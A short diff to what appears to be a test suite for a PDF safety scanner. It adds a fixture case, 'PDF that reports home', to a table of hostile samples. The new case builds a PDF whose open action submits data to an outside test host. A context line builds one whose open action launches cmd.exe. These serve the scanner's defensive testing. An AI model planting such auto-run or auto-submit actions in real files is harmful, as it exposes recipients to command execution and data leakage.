@@ -159,6 +159,11 @@ HOSTILE = {
         pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
         (Fault.ACTIVE, {"what": "launch"}),
     ),
+    "PDF that reports home": (
+        "a.pdf",
+        pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://example.test/")),
+        (Fault.ACTIVE, {"what": "launch"}),
+    ),
     "PDF dynamic form": (
         "a.pdf",
         pdf(AcroForm=pikepdf.Dictionary(XFA="<xdp/>", Fields=[])),
